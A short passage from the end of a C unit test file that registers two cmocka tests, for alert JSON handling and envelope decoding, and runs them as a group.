        cmocka_unit_test(test_alert_json_any_bytes),
        cmocka_unit_test(test_envelope_decode),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
